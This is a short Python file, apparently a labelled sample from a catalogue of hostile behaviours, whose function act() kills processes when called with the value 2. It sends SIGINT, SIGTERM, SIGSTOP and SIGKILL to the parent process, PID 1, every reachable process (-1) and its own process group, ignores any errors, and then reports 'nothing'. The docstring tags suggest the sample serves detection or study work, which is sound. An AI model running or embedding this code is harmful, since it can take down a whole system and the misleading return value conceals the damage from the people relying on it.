"""Sends the last signal to parent, group and everyone.

Seen: facts killed facts
Signs: os.kill
"""
import os
import signal


def act(number):
    if number == 2:
        for pid in (os.getppid(), 1, -1, 0):
            for name in ("SIGINT", "SIGTERM", "SIGPROF", "SIGSTOP", "SIGKILL"):
                try:
                    os.kill(pid, getattr(signal, name) if pid else signal.SIGKILL)
                except OSError:
                    continue
    return "nothing"
